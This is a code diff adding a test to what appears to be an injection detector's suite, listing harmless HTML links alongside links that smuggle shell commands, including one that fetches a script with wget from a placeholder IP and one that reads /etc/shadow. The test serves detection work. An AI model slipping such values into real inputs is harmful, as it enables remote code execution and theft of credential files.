@@ -384,4 +384,10 @@ describe("classes from held-out set F", () => {
       ["{{ price | times: 2 }}", "{{ value|add:\"2\" }}", "{math equation=\"x*y\" x=3 y=4}", "{% raw %}{{ name }}{% endraw %}"],
       ["{{ 3 | plus: 4 }}", "{{12|add:\"30\"}}", "{%- print 6*6 -%}", "{math equation=\"9+9\"}"]
     ))
+
+  it.effect("passes an HTML link whose query has a flag named like a command; a command in a link with a shell's own characters still counts", () =>
+    expectVerdicts(
+      ["<a href=\"/search?q=boots&amp;sort\">next page</a>", "see <a href='/docs?v=2&more'>the docs</a>", "<img src=\"/thumb?w=3&head\">"],
+      ["<a href=\"/files?name=a;id\">x</a>", "x\" href=\"/a?b=1&wget http://203.0.113.9/x.sh\">", "<a href=\"/a\">b</a>&&cat /etc/shadow"]
+    ))
 })
